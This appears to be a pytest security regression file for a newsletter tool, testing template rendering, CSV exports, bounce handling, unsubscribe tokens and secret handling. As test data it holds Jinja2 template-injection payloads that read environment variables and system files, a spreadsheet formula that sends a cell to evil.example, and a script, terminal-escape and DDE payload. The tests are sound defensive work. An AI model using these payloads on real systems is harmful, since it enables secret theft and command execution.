"""What befell other newsletter tools, each tried here on the real commands and pages.

`docs/security.md` lists every advisory with the tests that hold it; those that are told best
beside their subject stand there.
"""

import csv
import io
import os
from pathlib import Path

import pytest

from newsletter.consent import Request, Told
from newsletter.ledger.ledger import Ledger
from newsletter.unsubscribe import Purpose
from newsletter.values import Address
from tests.cli.newsroom import ISSUE, Newsroom
from tests.cli.readers import ANNA, BRUNO, SEND
from tests.cli.test_bounces import bounce, deliver
from tests.cli.test_public import FORM, here, links_of, one_click_of, send, served, suppressed
from tests.cli.test_said import NEW, register
from tests.doubles import START

SECRET = "correct-horse-battery-staple"
TEMPLATES = {
    "environment": "{{ environ }}{{ env }}{{ os }}",
    "globals": "{{ lipsum.__globals__['os'].environ }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('env').read() }}",
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(url) }}",
    "format_map": "{{ '{x.__class__}'.format_map({'x': url}) }}",
    "attr": "{{ url|attr('__class__') }}",
    "map": "{{ [url]|map(attribute='__class__')|list }}",
    "own context": "{{ self._TemplateReference__context }}",
    "include": "{% include '/proc/self/environ' %}",
    "include above": "{% include '../../../../../proc/self/environ' %}",
    "import": "{% import '/etc/passwd' as x %}{{ x }}",
    "extends": "{% extends '../../newsletter.toml' %}",
}
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'

pytestmark = pytest.mark.slow  # real messages over real SMTP


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_template_reads_neither_the_environment_nor_a_file(
    newsroom: Newsroom, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv("SOMEBODYS_PASSWORD", SECRET)
    newsroom.edit(
        "templates/tiny/edition.txt.j2", "{{ publisher", f"{TEMPLATES[name]}{{{{ publisher"
    )
    said = ""
    codes = {0, 2, 3} if name == "map" else {2, 3}  # that one says nothing, and is nothing
    for words in (("check",), ("build", ISSUE, "-o", "out"), ("preview", ISSUE, "--text")):
        ran = newsroom.run(*words, follow=False)
        assert ran.code in codes, ran.said
        said += ran.said
    pages = [path.read_text() for path in newsroom.root.rglob("*.txt")]
    for leaked in (SECRET, "root:x:", "posix.environ", "<class"):
        assert not any(leaked in each for each in (said, *pages))
    assert newsroom.run(*SEND, follow=False).code in codes
    assert not any(SECRET.encode() in content for _, content in newsroom.relay.received)


def test_what_an_issue_says_is_no_template_and_reads_nothing(
    newsroom: Newsroom, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOMEBODYS_PASSWORD", SECRET)
    text = "{{ lipsum.__globals__['os'].environ }} {% for x in range(9) %}x{% endfor %}"
    newsroom.edit(f"issues/{ISSUE}/issue.toml", 'lead = "In breve."', f'lead = "{text}"')
    ran = newsroom.run("check", follow=False)
    assert ran.code in {2, 3}
    assert SECRET not in ran.said


def test_a_formula_in_a_readers_name_is_text_in_every_export(
    newsroom: Newsroom, tmp_path: Path
) -> None:
    told = Told(START, FORMULA, FORMULA, "en", "192.0.2.7")
    with Ledger.open(newsroom.ledger) as ledger:
        said = register(newsroom, ledger)
        asked = Request(Address(NEW), ("web",), told, {"first_name": FORMULA, "city": "@SUM(1)"})
        token = said.request_subscription(asked).token
        assert token
        said.confirm(token, told)
    newsroom.relay.will_answer(ANNA, "550 =1+1 +2 @x")
    newsroom.run(*SEND, follow=False)
    everybody, consents = tmp_path / "all.csv", tmp_path / "consents.csv"
    newsroom.run("subscribers", "export", "--all", "-o", str(everybody), follow=False)
    newsroom.run("consent", "export", "-o", str(consents), follow=False)
    newsroom.run("report", "1", "--save", follow=False)
    assert len([*newsroom.root.glob("reports/*.csv")]) == 1
    saved = [path.read_text() for path in newsroom.root.glob("reports/*.csv")]
    for text in (everybody.read_text(), consents.read_text(), *saved):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert len(cells) > 1
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert (
        FORMULA
        in newsroom.run("subscribers", "export", NEW, "--format", "json")
        .object["records"]["subscription"][0]["fields"]
        .values()
    )


def test_no_get_unsubscribes_joins_or_opens_preferences_of_another(newsroom: Newsroom) -> None:
    send(newsroom, ISSUE, 5)
    with served(newsroom) as client:
        for link in links_of(newsroom, ANNA):
            for method in ("GET", "HEAD", "OPTIONS", "PUT", "DELETE"):
                for tail in ("", "?List-Unsubscribe=One-Click", "?_method=POST"):
                    client.ask(here(link) + tail, method)
        assert suppressed(newsroom) == []
        click = here(links_of(newsroom, ANNA)[0])
        for body in ("", "x=1", "List-Unsubscribe=No"):
            for kind in (FORM, {"Content-Type": "text/plain"}):
                client.ask(click.replace("/u/", "/nothing/"), "POST", kind, body)
        assert suppressed(newsroom) == []


def test_a_token_opens_nothing_but_what_it_was_made_for(newsroom: Newsroom) -> None:
    send(newsroom, ISSUE, 5)
    mine, hers = one_click_of(newsroom, ANNA), one_click_of(newsroom, BRUNO)
    token = mine.rpartition("/")[2]
    with served(newsroom) as client:
        for wrong in (
            f"/p/{token}",
            f"/v/{token}",
            f"/confirm/{token}",
            f"/u/{token[:16]}{hers.rpartition('/')[2][16:]}",
            f"/u/{hers.rpartition('/')[2][:16]}{token[16:]}",
            f"/u/{token}/../{hers.rpartition('/')[2]}x",
        ):
            assert client.ask(wrong).status == 404, wrong
            answer = client.ask(wrong, "POST", FORM, "List-Unsubscribe=One-Click")
            assert answer.status in {404, 405}, wrong
        assert suppressed(newsroom) == []


def test_a_token_of_another_newsletters_list_opens_nothing(newsroom: Newsroom) -> None:
    send(newsroom, ISSUE, 5)
    path = one_click_of(newsroom, ANNA)
    newsroom.edit("newsletter.toml", 'list_id = "news.alisei', 'list_id = "other.alisei')
    with served(newsroom) as client:
        answer = client.ask(path, "POST", FORM, "List-Unsubscribe=One-Click")
        assert answer.status == 404
        assert suppressed(newsroom) == []


@pytest.mark.parametrize("name", ["From", "Subject", "words"])
def test_what_a_bounce_says_is_obeyed_by_no_terminal_and_no_page(
    newsroom: Newsroom, name: str
) -> None:
    newsroom.edit("newsletter.toml", "[sender]", '[sender]\nbounce_address = "b@alisei.example"')
    for part in ("new", "cur", "tmp"):
        (newsroom.root / "bounces" / part).mkdir(parents=True)
    with (newsroom.root / "newsletter.toml").open("a") as file:
        file.write('\n[feedback]\nmaildir = "bounces"\n')
    newsroom.run(*SEND, follow=False)
    hostile = "<script>alert(1)</script>\x1b]0;owned\x07\u202e=cmd|'/c calc'!A0"
    raw = bounce(newsroom, ANNA, answer=f"550 5.1.1 {hostile if name == 'words' else 'no'}")
    if name != "words":
        raw = f"{name}: {hostile}\n".encode() + raw
    deliver(newsroom, raw)
    said = newsroom.run("bounces", "fetch", follow=False).said
    for words in (
        ("bounces", "list"),
        ("bounces", "show", "1"),
        ("subscribers", "show", ANNA),
        ("report", "1", "--save"),
        ("subscribers", "export", ANNA),
    ):
        ran = newsroom.run(*words, follow=False)
        assert ran.code == 0
        said += ran.said
    assert not {"\x1b", "\x07", "\u202e"} & {*said}
    for path in newsroom.root.glob("reports/*.*"):
        text = path.read_text()
        assert "\x1b" not in text
        assert "<script" not in text


def test_who_said_no_is_brought_back_by_no_file_form_or_import(newsroom: Newsroom) -> None:
    newsroom.run("subscribers", "unsubscribe", ANNA, follow=False)
    newsroom.run("suppressions", "add", BRUNO, "--reason", "complained", follow=False)
    text = f"email,name\n{ANNA.upper()},Anna\n{BRUNO},Bruno\n"
    path = newsroom.write("in/again.csv", text)
    done = newsroom.run("subscribers", "import", str(path), "--list", "again", follow=False)
    assert done.code == 0
    newsroom.write("subscribers/again.csv", text)
    with Ledger.open(newsroom.ledger) as ledger:
        asked = Request(Address(BRUNO), ("again",), Told(START, "form"), {})
        assert register(newsroom, ledger).request_subscription(asked).token is None
    assert newsroom.run(*SEND, follow=False).code == 0
    assert not {ANNA, BRUNO} & {*newsroom.relay.recipients}


def test_no_secret_is_in_an_argument_a_log_or_the_ledger(
    newsroom: Newsroom, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NEWSLETTER_SECRET", SECRET * 2)
    for name, value in (("HOST", "smtp.eu.example"), ("USERNAME", "anna"), ("PASSWORD", SECRET)):
        monkeypatch.setenv(f"NEWSLETTER_RELAYS__EU__{name}", value)
    said = ""
    for words in (SEND, ("status",), ("report", "1"), ("ledger", "verify"), ("check",)):
        ran = newsroom.run(*words, follow=False)
        assert ran.code != 2, ran.err
        said += ran.said
    assert SECRET not in said
    assert all(
        SECRET.encode() not in path.read_bytes()
        for path in newsroom.root.rglob("*")
        if path.is_file()
    )
    assert os.environ["NEWSLETTER_SECRET"]


def test_every_purpose_of_a_token_is_tried_here() -> None:
    assert {each.name for each in Purpose} == {"UNSUBSCRIBE", "PREFERENCES", "BROWSER"}
